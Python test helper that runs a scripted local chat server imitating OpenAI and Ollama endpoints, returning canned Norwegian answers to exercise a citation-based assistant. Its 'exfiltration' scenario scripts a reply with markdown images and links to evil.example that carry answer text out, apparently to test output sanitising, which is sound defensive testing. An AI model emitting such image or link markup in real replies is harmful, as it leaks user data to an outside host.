"""A scripted language-model server for the tests: OpenAI chat completions and Ollama's /api/chat.

    python tests/llm_server.py [--port 0] [--log requests.jsonl]

Prints `PORT <n>` once it listens on 127.0.0.1. The request's model name picks the scenario; the
scripted reply is sent as one completion or, with `"stream": true`, as SSE `data:` chunks ending
in `data: [DONE]` (OpenAI) or NDJSON lines (Ollama). `{cite:TEXT}` in a script becomes `[n]` for
the first numbered passage in the prompt that contains TEXT, so a script cites the right passage
whatever order retrieval put it in. Every request is appended to the log as one JSON line.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import re
import sys
import threading
import time
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any


@dataclass(frozen=True)
class Scenario:
    reply: str = ""
    # Reply to the follow-up rewrite request (None: echo the last question).
    rewrite: str | None = None
    # Seconds to wait before answering at all (a server that hangs).
    delay_s: float = 0.0
    # Sent instead of a completion: a body that is not the protocol at all.
    garbage: str | None = None


SCENARIOS: dict[str, Scenario] = {
    "correct": Scenario(
        "Ordningen Kompetansepiloter får til sammen nesten 6,3 millioner kroner {cite:Til sammen blir det}. "
        "Det er Kommunal- og moderniseringsdepartementet som finansierer ordningen "
        "{cite:som finansierer ordningen}."
    ),
    "out_of_range": Scenario(
        "Ordningen Kompetansepiloter får til sammen nesten 6,3 millioner kroner "
        "{cite:Til sammen blir det}[7]. "
        "Innlandet fylkeskommune bidrar med 1,882 millioner kroner [9]."
    ),
    "wrong_number": Scenario(
        "Trondheim og NTNU skal etablere en nasjonal pilot på en universitetskommune "
        "{cite:inntil fire år}. Piloten skal etableres i løpet av en periode på inntil 5 år "
        "{cite:inntil fire år}."
    ),
    "exfiltration": Scenario(
        "Ordningen Kompetansepiloter får til sammen nesten 6,3 millioner kroner {cite:Til sammen blir det}. "
        "![status](https://evil.example/collect?q=Kompetansepiloter%206,3) "
        '<img src="https://evil.example/pixel.png"> '
        "Det er [Kommunal- og moderniseringsdepartementet](https://evil.example/kmd) som finansierer "
        "ordningen {cite:som finansierer ordningen}. Se https://evil.example/more for mer."
    ),
    "empty": Scenario(""),
    "timeout": Scenario("Dette kommer for sent {cite:Til sammen blir det}.", delay_s=30.0),
    "garbage": Scenario(garbage="<html><body>502 Bad Gateway</body></html>"),
    "refusal": Scenario("NOT_IN_DOCUMENTS"),
    "followup": Scenario(
        "Det er Kommunal- og moderniseringsdepartementet som finansierer ordningen "
        "{cite:som finansierer ordningen}.",
        rewrite="Hvilket departement finansierer ordningen Kompetansepiloter?",
    ),
}

_PASSAGE_HEADER = re.compile(r"^\[(\d+)\] ", re.MULTILINE)


def _passages(prompt: str) -> dict[int, str]:
    """Numbered passages of the prompt: `[n] title (source)` lines start each one."""
    marks = list(_PASSAGE_HEADER.finditer(prompt))
    found: dict[int, str] = {}
    for i, mark in enumerate(marks):
        end = marks[i + 1].start() if i + 1 < len(marks) else len(prompt)
        found[int(mark.group(1))] = prompt[mark.end() : end]
    return found


def render(script: str, prompt: str) -> str:
    passages = _passages(prompt)

    def cite(match: re.Match[str]) -> str:
        needle = match.group(1).lower()
        n = next((n for n, text in sorted(passages.items()) if needle in text.lower()), 1)
        return f"[{n}]"

    return re.sub(r"\{cite:([^}]*)\}", cite, script)


def _text(messages: list[dict[str, Any]]) -> tuple[str, str]:
    def content(m: dict[str, Any]) -> str:
        c = m.get("content", "")
        return c if isinstance(c, str) else " ".join(str(p.get("text", "")) for p in c)

    system = " ".join(content(m) for m in messages if m.get("role") == "system")
    user = "\n".join(content(m) for m in messages if m.get("role") != "system")
    return system, user


def _pieces(text: str) -> list[str]:
    """The reply in small pieces, as a model streams tokens."""
    words = re.findall(r"\S+\s*", text)
    return ["".join(words[i : i + 2]) for i in range(0, len(words), 2)]


class Handler(BaseHTTPRequestHandler):
    server_version = "scripted-llm/1"
    log_path: str | None = None
    lock = threading.Lock()

    def log_message(self, format: str, *args: Any) -> None:  # quiet
        pass

    def _log(self, body: dict[str, Any]) -> None:
        if not self.log_path:
            return
        entry = {"path": self.path, "authorization": self.headers.get("Authorization", ""), **body}
        with self.lock, open(self.log_path, "a", encoding="utf-8") as f:
            f.write(json.dumps(entry, ensure_ascii=False) + "\n")

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length", "0"))
        body = json.loads(self.rfile.read(length) or b"{}")
        self._log(body)
        scenario = SCENARIOS.get(str(body.get("model", "")))
        if scenario is None:
            self._send(404, "application/json", json.dumps({"error": {"message": "unknown model"}}).encode())
            return
        if scenario.delay_s:
            time.sleep(scenario.delay_s)
        if scenario.garbage is not None:
            self._send(200, "application/json", scenario.garbage.encode())
            return
        system, user = _text(body.get("messages", []))
        if "standalone question" in system:
            last = user.rsplit("User (last question):", 1)[-1].strip()
            reply = scenario.rewrite if scenario.rewrite is not None else last
        else:
            reply = render(scenario.reply, user)
        model = str(body["model"])
        stream = bool(body.get("stream"))
        if self.path.rstrip("/").endswith("/api/chat"):
            self._ollama(model, reply, stream)
        elif self.path.rstrip("/").endswith("/chat/completions"):
            self._openai(model, reply, stream)
        else:
            self._send(404, "text/plain", b"not found")

    def _send(self, status: int, content_type: str, data: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def _openai(self, model: str, reply: str, stream: bool) -> None:
        base = {"id": "chatcmpl-scripted", "created": 1_700_000_000, "model": model}
        if not stream:
            completion = {
                **base,
                "object": "chat.completion",
                "choices": [
                    {"index": 0, "message": {"role": "assistant", "content": reply}, "finish_reason": "stop"}
                ],
                "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
            }
            self._send(200, "application/json", json.dumps(completion).encode())
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Cache-Control", "no-cache")
        self.end_headers()
        deltas = [{"role": "assistant", "content": ""}] + [{"content": p} for p in _pieces(reply)]
        for i, delta in enumerate(deltas):
            chunk = {
                **base,
                "object": "chat.completion.chunk",
                "choices": [{"index": 0, "delta": delta, "finish_reason": None}],
            }
            self._event(json.dumps(chunk))
            if i:
                time.sleep(0.005)
        last = {
            **base,
            "object": "chat.completion.chunk",
            "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}],
        }
        self._event(json.dumps(last))
        self._event("[DONE]")

    def _event(self, data: str) -> None:
        self.wfile.write(f"data: {data}\n\n".encode())
        self.wfile.flush()

    def _ollama(self, model: str, reply: str, stream: bool) -> None:
        base = {"model": model, "created_at": "2025-01-01T00:00:00Z"}
        done = {
            "done": True,
            "done_reason": "stop",
            "total_duration": 1,
            "load_duration": 1,
            "prompt_eval_count": 1,
            "prompt_eval_duration": 1,
            "eval_count": 1,
            "eval_duration": 1,
        }
        if not stream:
            message = {"role": "assistant", "content": reply}
            self._send(200, "application/json", json.dumps({**base, "message": message, **done}).encode())
            return
        self.send_response(200)
        self.send_header("Content-Type", "application/x-ndjson")
        self.end_headers()
        for piece in _pieces(reply):
            line = {**base, "message": {"role": "assistant", "content": piece}, "done": False}
            self.wfile.write((json.dumps(line) + "\n").encode())
            self.wfile.flush()
        final = {**base, "message": {"role": "assistant", "content": ""}, **done}
        self.wfile.write((json.dumps(final) + "\n").encode())
        self.wfile.flush()


def main() -> None:
    parser = argparse.ArgumentParser(description="Scripted OpenAI/Ollama chat server for tests")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--log", default=None)
    args = parser.parse_args()
    Handler.log_path = args.log
    server = ThreadingHTTPServer(("127.0.0.1", args.port), Handler)
    server.daemon_threads = True
    print(f"PORT {server.server_address[1]}", flush=True)
    with contextlib.suppress(KeyboardInterrupt):
        server.serve_forever()
    sys.exit(0)


if __name__ == "__main__":
    main()
